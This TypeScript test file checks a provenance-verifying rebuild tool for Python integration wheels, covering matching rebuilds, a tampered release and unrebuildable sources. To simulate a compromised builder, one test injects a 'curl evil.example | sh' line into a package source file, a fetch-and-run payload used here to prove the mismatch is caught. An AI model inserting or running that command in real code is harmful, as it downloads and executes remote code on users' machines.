// provenant rebuild: releases built in a real git checkout, fetched back through the verifying
// downloader and rebuilt from the commit their signed provenance names.
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { appendFile, cp, mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { test } from 'node:test';
import { buildIntegrations } from '../../src/app/build.ts';
import { listIntegrations } from '../../src/app/workspace.ts';
import { exportPrivateKeyPem, generatePrivateKey } from '../../src/signers/key-file.ts';
import { buildWheel } from '../../src/wheel/wheel.ts';
import { git, setup } from './checkout.ts';

test('a release built in a checkout rebuilds to the same bytes from its commit, whatever the checkout holds now', async (t) => {
  const s = await setup(t);
  const rel = await s.cli(s.integrations, 'release', 'postgres', 'redisdb', ...s.repoFlags);
  assert.equal(rel.code, 0, rel.err);

  // The checkout moves on and is dirty: the rebuild reads the commit's objects only.
  await appendFile(path.join(s.integrations, 'postgres/datadog_checks/postgres/postgres.py'), '\n# later work\n');
  await git(s.checkout, 'commit', '-q', '-am', 'later work');
  await appendFile(path.join(s.integrations, 'postgres/datadog_checks/postgres/postgres.py'), '\n# uncommitted\n');
  await writeFile(path.join(s.integrations, 'postgres/datadog_checks/postgres/untracked.py'), 'X = 1\n');
  const status = await git(s.checkout, 'status', '--porcelain');

  const r = await s.rebuild('datadog-postgres==23.2.0');
  assert.equal(r.code, 0, r.err);
  assert.equal(r.result!.match, true);
  assert.equal(r.result!.commit, s.commit);
  assert.equal(r.result!.path, 'integrations/postgres');
  assert.equal(r.result!.sourceDateEpoch, 1700000000);
  assert.deepEqual(r.result!.differences, []);
  assert.equal(r.result!.rebuilt.sha256, r.result!.published.sha256);
  assert.equal(await git(s.checkout, 'status', '--porcelain'), status, 'the checkout is left as it was');

  const newest = await s.rebuild('datadog-redisdb');
  assert.equal(newest.code, 0, newest.err);
  assert.equal(newest.result!.match, true);
});

test('a published wheel that is not what its commit builds: exit 5, naming the files that differ', async (t) => {
  const s = await setup(t);
  assert.equal((await s.cli(s.integrations, 'release', 'postgres', ...s.repoFlags)).code, 0);
  // A compromised builder: the statement says "clean commit X", the wheel carries an extra line.
  const [redis] = (await listIntegrations(s.integrations)).filter((i) => i.name === 'redisdb');
  await buildIntegrations([redis!], {
    env: s.env,
    buildWheel: async (dir, opts) => {
      const evil = path.join(s.work, 'evil', path.basename(dir));
      await cp(dir, evil, { recursive: true });
      await appendFile(path.join(evil, 'datadog_checks/redisdb/redisdb.py'), '\nimport os; os.system("curl evil.example | sh")\n');
      return buildWheel(evil, opts);
    },
  });
  assert.equal((await s.cli(s.integrations, 'sign', 'redisdb', '--keys', path.join(s.work, 'keys'))).code, 0);
  const pub = await s.cli(s.integrations, 'publish', 'redisdb', ...s.repoFlags);
  assert.equal(pub.code, 0, pub.err);

  // A rebuilder asked to sign: a mismatch is never signed, nothing is written.
  const key = path.join(s.work, 'rebuilder.pem');
  await writeFile(key, exportPrivateKeyPem(generatePrivateKey('ed25519')));
  const r = await s.rebuild('datadog-redisdb', s.checkout, '--sign-vsa', '--key', key, '--out', path.join(s.work, 'vsas'));
  assert.equal(r.code, 5, r.err);
  assert.equal(existsSync(path.join(s.work, 'vsas')), false, 'no VSA of a mismatch');
  assert.equal((r.result as { vsa?: unknown }).vsa, undefined);
  assert.match(r.err, /E_REBUILD_MISMATCH/);
  assert.match(r.err, /datadog_checks\/redisdb\/redisdb\.py: content/);
  assert.equal(r.result!.match, false);
  assert.deepEqual(r.result!.differences.map((d) => `${d.path} ${d.kind}`), ['datadog_checks/redisdb/redisdb.py content', 'datadog_redisdb-7.1.0.dist-info/RECORD content']);

  const human = await s.cli(s.work, 'rebuild', 'datadog-redisdb', '--source', s.checkout, '--repository', path.join(s.work, 'repository'));
  assert.equal(human.code, 5);
  assert.match(human.out, /^DIFFERENT: datadog_redisdb-7\.1\.0-py2\.py3-none-any\.whl/);
});

test('not rebuildable: a commit the checkout lacks (exit 3), a release built from a modified tree (exit 5)', async (t) => {
  const s = await setup(t);
  assert.equal((await s.cli(s.integrations, 'release', 'postgres', ...s.repoFlags)).code, 0);
  const other = path.join(s.work, 'other');
  await mkdir(other);
  await git(other, 'init', '-q');
  await writeFile(path.join(other, 'x'), 'x');
  await git(other, 'add', '-A');
  await git(other, 'commit', '-q', '-m', 'unrelated');
  const wrong = await s.rebuild('datadog-postgres', other);
  assert.equal(wrong.code, 3, wrong.err);
  assert.match(wrong.err, /E_REBUILD_COMMIT_UNKNOWN: .*does not have/);
  const notGit = await s.rebuild('datadog-postgres', path.join(s.work, 'keys'));
  assert.equal(notGit.code, 3);
  assert.match(notGit.err, /E_REBUILD_SOURCE: .* is not a git checkout/);

  await appendFile(path.join(s.integrations, 'nginx/datadog_checks/nginx/nginx.py'), '\n# not committed\n');
  assert.equal((await s.cli(s.integrations, 'release', 'nginx', ...s.repoFlags)).code, 0);
  const dirty = await s.rebuild('datadog-nginx==8.1.0rc1', s.checkout);
  assert.equal(dirty.code, 5, dirty.err);
  assert.match(dirty.err, /E_REBUILD_SOURCE: .*built from a modified working tree/);
});
